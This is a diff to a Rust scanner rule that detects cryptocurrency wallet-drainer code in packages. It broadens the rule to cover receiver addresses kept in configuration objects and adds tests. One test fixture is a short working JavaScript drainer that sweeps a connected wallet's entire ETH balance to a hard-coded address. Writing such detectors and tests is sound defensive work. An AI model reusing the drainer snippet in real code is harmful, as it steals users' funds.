@@ -18,7 +18,9 @@ diligence_finding::declare_rule! {
     /// embeds a hard-coded address as spender or recipient. Also the same hand-overs through a contract or
     /// signer object (`token.approve(MINE, MaxUint256)`, `nft.setApprovalForAll(MINE, true)`,
     /// `signer.sendTransaction({ to: MINE, value })`) and permit messages (EIP-2612, Permit2) whose `spender`
-    /// is a hard-coded address. High; critical when the amount is unlimited
+    /// is a hard-coded address. A hard-coded address is a literal, a constant, or a member of a constant
+    /// configuration object (`to: CFG.receiver` with `var CFG = { receiver: '0x…', … }`). High; critical when the
+    /// amount is unlimited
     /// (`'f'.repeat(64)`, `MaxUint256`) or the file builds more than one such transaction (approve every
     /// token, then sweep the native balance).
     ///
@@ -85,6 +87,50 @@ mod tests {
     }
 
     /// A plain value transfer to one hard-coded address: high, not malicious alone.
+    /// The receiver kept in a configuration object (`CFG.receiver`), the balance swept to it.
+    #[test]
+    fn positive_sweep_to_a_configured_receiver() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "var CFG = { receiver: '0x4344a99202A4706cd4667CFf8c48981335307b30', min: 0.001, retries: 3 };
+exports.connect = async function (p) {
+  var a = (await p.request({ method: 'eth_requestAccounts' }))[0];
+  var bal = BigInt(await p.request({ method: 'eth_getBalance', params: [a, 'latest'] }));
+  await p.request({ method: 'eth_sendTransaction', params: [{ from: a, to: CFG.receiver, value: '0x' + bal.toString(16) }] });
+};
+",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-drainer"),
+            vec![("index.js".to_string(), 5)]
+        );
+    }
+
+    /// A connector sending the transaction its caller describes, with defaults from a config
+    /// object that holds no address.
+    #[test]
+    fn negative_connector_with_config_object() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "var CFG = { gas: '0x5208', chainId: 1, retries: 3 };
+exports.send = function (p, tx) {
+  return p.request({ method: 'eth_sendTransaction', params: [{ from: tx.from, to: tx.to, value: tx.value, gas: CFG.gas }] });
+};
+",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/wallet-drainer").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
     #[test]
     fn positive_transfer_to_a_constant_address() {
         let s = scan(&[
